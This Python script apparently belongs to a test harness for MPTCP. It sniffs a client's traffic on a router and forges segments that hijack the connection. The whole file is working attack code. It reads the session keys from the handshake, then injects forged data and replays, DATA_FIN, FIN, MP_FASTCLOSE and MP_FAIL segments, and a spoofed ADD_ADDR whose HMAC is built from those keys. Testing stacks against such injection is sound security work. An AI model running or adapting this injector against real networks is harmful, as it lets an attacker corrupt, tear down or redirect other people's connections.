#!/usr/bin/env python3
"""On a router of path 1, sees what passes, and sends segments of its own with
the sequence numbers that the client's next segment will have, ahead of it.

usage: inject.py KIND IFACE CLIENT PORT REPORT  until SIGTERM; makes REPORT.up

KIND  data       data, with the mapping that the client's next data will have
      replay     the octets before it once more in that place
      ahead      data in a place that is yet to come
      bare       data without a mapping
      fin        DATA_FIN behind the last data
      tcpfin     FIN there
      fastclose  MP_FASTCLOSE with the key seen in the handshake
      fail       MP_FAIL
      announce=A ADD_ADDR of address A as the server's, with an HMAC of the
                 keys seen in the handshake; to the client, as from the server
"""

import json
import select
import signal
import socket
import struct
import sys
import time

import stream
import wire

FIRST, EVERY = 10, 12   # which data segments are followed by a forged one
MOST = {"data": 3, "replay": 3, "announce": 3}     # the others once
AHEAD = 20              # how many segments


def frame_like(data):
    """Whether the octets have the shape of frames: what a forger imitates."""
    if len(data) < 20 or data[0] > 7:
        return False
    return struct.unpack("!H", data[1:3])[0] + 3 <= len(data)


class Injector:
    def __init__(self, kind, client, port):
        self.kind, _, self.addr = kind.partition("=")
        self.client, self.port = client, port
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)
        self.isns = {}
        self.key_a = self.key_b = None
        self.clock = b""
        self.awaited = {}
        self.report = {"seen": 0, "read": 0, "injected": 0, "acked": 0,
                       "frames": 0, "sums": False, "reset_reasons": []}

    def octets(self, data):
        """Of the same length: a record with other words, or what looks like a
        frame; or what was sent before."""
        evil = stream.record("c", self.report["seen"], stream.EVIL) * 3
        if self.kind == "replay":
            return data
        if frame_like(data):
            self.report["frames"] += 1
            return data[:3] + evil[:len(data) - 3]
        return evil[:len(data)]

    def place(self, seg, dss):
        """Data and subflow sequence number of what follows seg."""
        into = (seg.seq - self.isns[seg.sport] - dss.ssn) % (1 << 32)
        into += len(seg.data)
        return ((int.from_bytes(dss.dsn, "big") + into) % (1 << 64),
                (dss.ssn + into) % (1 << 32))

    def add_addr(self):
        addr = bytes([99]) + socket.inet_aton(self.addr)
        mac = wire.join_hmac(self.key_b, self.key_a, addr, b"\0\0")
        return bytes([wire.MPTCP, 16, 0x30]) + addr + mac[-8:]

    def forge(self, seg, dss):
        """The option and the octets of a segment right behind seg."""
        dsn, ssn = self.place(seg, dss) if dss else (0, 0)
        short = {
            "fin": lambda: wire.dss(dsn, 0, 1, fin=True),
            "tcpfin": lambda: b"",
            "fastclose": lambda: bytes([wire.MPTCP, 12, 0x70, 0]) + self.key_b,
            "fail": lambda: (bytes([wire.MPTCP, 12, 0x60, 0])
                             + dsn.to_bytes(8, "big")),
            "announce": self.add_addr,
        }.get(self.kind)
        if short:
            return short(), b""
        data = self.octets(seg.data)
        length = len(data)
        if self.kind == "bare" or not dss:
            return b"", data
        if self.kind == "ahead":
            dsn = (dsn + AHEAD * length) % (1 << 64)
        sums = wire.dss_sum(dsn, ssn, length, data) if dss.sums else None
        return wire.dss(dsn, ssn, length, sums=sums), data

    def inject(self, seg, dss):
        opt, data = self.forge(seg, dss)
        stamps = seg.opt(wire.STAMPS)
        fin = wire.FIN if self.kind == "tcpfin" else 0
        forged = wire.Segment(seg.src, seg.sport, seg.dst, seg.dport,
                              seg.seq + len(seg.data), seg.ack,
                              wire.ACK | fin, seg.wnd, [stamps or b"", opt],
                              data)
        if self.kind == "announce":
            if stamps:      # not behind what the client sees meanwhile
                clock = int.from_bytes(self.clock or stamps[6:], "big") + \
                    20 * 3 ** self.report["injected"]
                stamps = stamps[:2] + struct.pack("!I", clock % (1 << 32)) + \
                    stamps[2:6]
            forged = wire.Segment(seg.dst, seg.dport, seg.src, seg.sport,
                                  seg.ack, seg.seq + len(seg.data), wire.ACK,
                                  seg.wnd, [stamps or b"", opt])
        self.out.sendto(forged.pack(), (forged.dst, 0))
        self.awaited[seg.sport] = (forged.seq + len(data) +
                                   (fin and 1)) % (1 << 32)
        self.report["injected"] += 1
        self.report["sums"] = bool(dss and dss.sums)

    def mapped(self, seg):
        """The mapping of the client's data; False: none that will do."""
        dss = seg.mapping()
        if not dss:
            return None if not self.key_b else False
        if dss.dsn is None or len(dss.dsn) < 8 or not dss.ssn:
            return False
        return dss

    def from_client(self, seg):
        if seg.flags & wire.SYN:
            self.isns[seg.sport] = seg.seq
            return
        capable = seg.mptcp(wire.CAPABLE)
        if capable and len(capable) >= 20:
            self.key_a, self.key_b = capable[4:12], capable[12:20]
        dss = self.mapped(seg)
        if not seg.data or dss is False or seg.sport not in self.isns:
            return
        self.report["seen"] += 1
        self.report["read"] += stream.readable(seg.data)
        n = self.report["seen"] - FIRST
        if n >= 0 and n % EVERY == 0 and len(seg.data) < 2 * stream.RECORD \
                and self.report["injected"] < MOST.get(self.kind, 1):
            self.inject(seg, dss)

    def from_server(self, seg):
        stamps = seg.opt(wire.STAMPS)
        self.clock = stamps[2:6] if stamps else b""
        if seg.flags & wire.RST:
            self.report["reset_reasons"].append(seg.rst_reason())
        elif self.awaited.get(seg.dport) == seg.ack:
            del self.awaited[seg.dport]
            self.report["acked"] += 1

    def packet(self, pkt):
        seg = wire.Segment.parse(pkt)
        if seg and seg.src == self.client and seg.dport == self.port:
            self.from_client(seg)
        elif seg and seg.dst == self.client and seg.sport == self.port:
            self.from_server(seg)


def main():
    kind, iface, client, port, out = sys.argv[1:6]
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    ear.bind((iface, 3))
    attack = Injector(kind, client, int(port))
    going = [True]
    signal.signal(signal.SIGTERM, lambda *_: going.clear())
    open(out + ".up", "w").close()
    end = time.monotonic() + 30
    while going and time.monotonic() < end:
        if select.select([ear], [], [], 0.1)[0]:
            attack.packet(ear.recv(65535))
    with open(out, "w", encoding="ascii") as f:
        json.dump(attack.report, f)


main()
